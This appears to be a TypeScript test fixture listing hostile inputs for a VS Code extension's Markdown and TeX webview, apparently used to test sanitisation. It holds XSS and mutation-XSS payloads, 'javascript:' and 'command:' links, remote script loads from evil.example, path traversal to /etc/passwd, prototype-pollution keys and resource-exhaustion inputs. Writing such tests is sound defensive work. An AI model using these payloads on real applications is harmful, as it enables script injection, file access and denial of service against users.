/**
 * Texts that try to run something, load something or freeze the page. Each sets `globalThis.pwned` or asks for a
 * file of `evil.example` if it works.
 */
export const hostileInputs: readonly string[] = [...html(), ...links(), ...tex(), ...structure()];

/** Messages that no page of ours would send to its host. */
export const hostileMessages: readonly unknown[] = [
  null,
  7,
  'open',
  [],
  {},
  { kind: 'request' },
  { kind: 'request', id: 'x', method: 'open', params: { id: 'kv-cache' } },
  { kind: 'request', id: 0.5, method: 'open', params: { id: 'kv-cache' }, extra: '💥'.repeat(1000) },
  { kind: 'reply', id: 1, ok: true, result: {} },
  { kind: 'event', name: 'show', payload: {} },
  ...[
    ['toString', undefined],
    ['constructor', undefined],
    ['__proto__', { polluted: true }],
    ['eval', { text: 'globalThis.pwned=1' }],
    ['executeCommand', { command: 'workbench.action.terminal.new' }],
    ['open', undefined],
    ['open', { id: 7 }],
    ['open', { id: '../../../../etc/passwd' }],
    ['open', { id: 'command:workbench.action.terminal.new' }],
    ['open', { id: 'constructor' }],
    ['open', { id: '<img src=x onerror=pwned=1>' }],
    ['open', { id: 'x'.repeat(1_000_000) }],
    ['openSource', { id: '../../package.json' }],
    ['openSource', { id: 'file:///etc/passwd' }],
    ['quiz', { id: { toString: 'kv-cache' } }],
    ['quiz', { id: 'no-such-question' }],
    ['bookmark', { id: '__proto__', on: 'yes' }],
    ['saveNote', { id: 'kv-cache', text: { evil: true } }],
    ['saveNote', { id: 'no-such-question', text: 'x' }],
    ['saveNote', { id: 'kv-cache', text: 'x'.repeat(1_000_000) }],
    ['keepDraft', { id: 'kv-cache', draft: 'x' }],
    ['reached', { id: 'kv-cache', step: 'beyond' }],
    ['copy', { text: { evil: true } }],
    ['back', { steps: -1 }],
  ].map(([method, params], number) => ({ kind: 'request', id: 1_000_000 + number, method, params })),
];

function html(): string[] {
  const run = 'globalThis.pwned=1';
  return [
    `<script>${run}</script>`,
    `<script src="https://evil.example/a.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<img src="https://evil.example/a.png">`,
    `![picture](https://evil.example/b.png)`,
    `![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiLz4=)`,
    `<svg onload="${run}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<svg><use href="https://evil.example/c.svg#x"></use></svg>`,
    `<svg><style><img src=x onerror="${run}"></style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><img src=x onerror="${run}"></template>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<object data="https://evil.example/d.swf"></object>`,
    `<embed src="https://evil.example/e.swf">`,
    `<link rel=stylesheet href="https://evil.example/f.css">`,
    `<style>@import "https://evil.example/g.css";</style>`,
    `<style>body{background:url(https://evil.example/h.png)}</style>`,
    `<div style="background:url(https://evil.example/i.png)">x</div>`,
    `<base href="https://evil.example/">`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<form action="https://evil.example/"><input autofocus onfocus="${run}"></form>`,
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<video><source onerror="${run}"></video>`,
    `<audio src=x onerror="${run}">`,
    `<body onload="${run}">`,
    `<marquee onstart="${run}">x</marquee>`,
    `<a id=vscode name=vscode>clobber</a><form id=body></form>`,
    `<!--<img src="--><img src=x onerror=${run}>">`,
    `<b title="\`"><img src=x onerror=${run}>\`</b>`,
  ];
}

function links(): string[] {
  const run = 'globalThis.pwned=1';
  return [
    `[a](javascript:${run})`,
    `[a](JaVaScRiPt:${run})`,
    `[a](java&#10;script:${run})`,
    `[a](&#106;avascript:${run})`,
    `[a](\u0001javascript:${run})`,
    `[a](vbscript:${run})`,
    `[a](data:text/html,<script>${run}</script>)`,
    `[a](command:workbench.action.terminal.new)`,
    `[a](command:llmStudy.quiz.start)`,
    `[a](vscode://file/etc/passwd)`,
    `[a](file:///etc/passwd)`,
    `[a](//evil.example/j)`,
    `[a](http://evil.example/k)`,
    `[a]: javascript:${run}\n\n[a]`,
    `<javascript:${run}>`,
    `[a](https://evil.example/"onmouseover="${run})`,
    `[a](../../../../etc/passwd)`,
    `[\u202Eevil](https://evil.example/l)`,
  ];
}

function tex(): string[] {
  return [
    String.raw`$\href{javascript:globalThis.pwned=1}{x}$`,
    String.raw`$\href{command:workbench.action.terminal.new}{x}$`,
    String.raw`$\url{https://evil.example/m}$`,
    String.raw`$\includegraphics[width=1em]{https://evil.example/n.png}$`,
    String.raw`$\htmlClass{x" onclick="pwned=1}{x}$`,
    String.raw`$\htmlId{vscode}{x}$`,
    String.raw`$\htmlStyle{background:url(https://evil.example/o.png)}{x}$`,
    String.raw`$\htmlData{onload=globalThis.pwned}{x}$`,
    String.raw`$\text{<img src=x onerror="globalThis.pwned=1">}$`,
    String.raw`$\unicode{<script>globalThis.pwned=1</script>}$`,
    String.raw`$\def\a{\a\a}\a$`,
    String.raw`$\def\a{bbbbbbbbbb}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\d\d\d\d$`,
    String.raw`$\rule{1000000em}{1000000em}$`,
    String.raw`$\kern{-99999em}x$`,
    String.raw`$\color{red;background:url(https://evil.example/p.png)}x$`,
    `$${'{'.repeat(2000)}x${'}'.repeat(2000)}$`,
    `$${'\\sqrt{'.repeat(400)}x${'}'.repeat(400)}$`,
    `$${'\\frac{1}{'.repeat(200)}x${'}'.repeat(200)}$`,
    `$${'x^{'.repeat(300)}x${'}'.repeat(300)}$`,
    String.raw`$\undefined{$`,
    '$$\n\\begin{matrix}' + '1&'.repeat(2000) + '\\end{matrix}\n$$',
  ];
}

function structure(): string[] {
  return [
    '> '.repeat(2000) + 'x',
    '- '.repeat(1000) + 'x',
    '['.repeat(5000),
    '*a '.repeat(5000),
    '**a **'.repeat(3000),
    '`'.repeat(5000) + 'x',
    '$'.repeat(5000),
    '$a '.repeat(3000),
    '$$x\n'.repeat(2000),
    `$${'\\displaystyle '.repeat(600)}x$`,
    String.raw`$\def\a#1{{{{{#1}}}}}\def\b#1{\a{\a{\a{\a{\a{#1}}}}}}\b{\b{\b{\b{\b{\b{x}}}}}}$`,
    '$x$ '.repeat(100),
    '![['.repeat(2000),
    '<'.repeat(5000),
    '|a'.repeat(500) + '|\n' + '|-'.repeat(500) + '|\n',
    '&#x0;&#xD800;\u0000\uFEFF\u200B\u202E',
    '```html\n<script>globalThis.pwned=1</script>\n```',
    '```"><img src=x onerror=globalThis.pwned=1>\nx\n```',
    '<span data-math="0">forged</span> $x$',
  ];
}
